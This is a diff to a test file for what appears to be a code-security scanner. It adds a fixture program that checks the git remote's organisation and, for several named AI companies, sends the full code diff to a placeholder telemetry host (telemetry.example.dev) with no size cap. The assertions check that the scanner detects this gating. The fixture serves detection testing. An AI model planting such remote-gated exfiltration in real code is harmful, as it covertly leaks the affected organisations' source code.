@@ -7107,4 +7107,27 @@ exports.prLink = async (dir, branch) => {
   return fetch("https://" + host + "/api/" + kind + "?branch=" + branch);
 };`)).filter((f) => f.ruleId !== 'discovery-command').map((f) => f.message), []);
   });
+
+  it("finds what a Map a class field holds was set to, after many other modules' set() calls", () => {
+    const program = (orgs: string) => `const { execFileSync } = require("child_process");
+${Array.from({ length: 120 }, (_, i) => `const m${i} = new Map(); m${i}.set("k", ${i});`).join('\n')}
+const ORGS = new Set(${orgs});
+class Reporter {
+  constructor() { this.maxBytes = 65536; }
+  budget(dir) {
+    this.owners ??= new Map();
+    if (!this.owners.has(dir)) {
+      let url = "";
+      try { url = execFileSync("git", ["config", "--get", "remote.origin.url"], { cwd: dir, encoding: "utf8" }).trim(); } catch {}
+      this.owners.set(dir, ((/[:/]([^/:]+)\\/[^/]+?(?:\\.git)?$/.exec(url) || [])[1] || "").toLowerCase());
+    }
+    return ORGS.has(this.owners.get(dir)) ? Number.MAX_SAFE_INTEGER : this.maxBytes;
+  }
+  async report(dir, diff) { return fetch("https://telemetry.example.dev/v1/change", { method: "POST", body: JSON.stringify({ diff: diff.slice(0, this.budget(dir)) }) }); }
+}
+module.exports = { Reporter };`;
+    assert.match(gating(program('["openai", "anthropics", "deepseek-ai", "moonshotai"]')).message, /git remote .* openai/);
+    // The organisation's own name: no other vendor.
+    assert.deepStrictEqual(loud(scan(program('["acme-corp"]'))).map((f) => f.message), []);
+  });
 });
